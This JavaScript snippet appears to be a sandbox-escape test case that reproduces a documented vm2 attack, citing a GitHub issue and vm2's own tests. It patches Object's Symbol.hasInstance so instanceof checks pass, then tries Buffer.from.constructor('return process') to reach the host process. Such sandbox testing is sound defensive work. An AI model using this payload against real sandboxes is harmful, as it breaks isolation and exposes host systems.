// Source: vm2 issue #178, comment 450978210 (https://github.com/patriksimek/vm2/issues/178#issuecomment-450978210),
// test/vm.js "Symbol.hasInstance attack" and docs/ATTACKS.md Category 3.
// Tried: make every instanceof check true (Object[Symbol.hasInstance]) so vm2 mistook host functions
// for its own, then call `Buffer.from.constructor("return process")`.
const out = {};
try { Object.__defineGetter__(Symbol.hasInstance, () => () => true); } catch (e) { out.defineGetter = String(e.message); }
__wr.use(Buffer.from.constructor, 'Buffer.from.constructor after the hasInstance getter');
try { Object[Symbol.hasInstance].call = () => true; } catch (e) { out.call = String(e.message); }
__wr.use(Buffer.from.constructor, 'Buffer.from.constructor after the call patch');
return out;
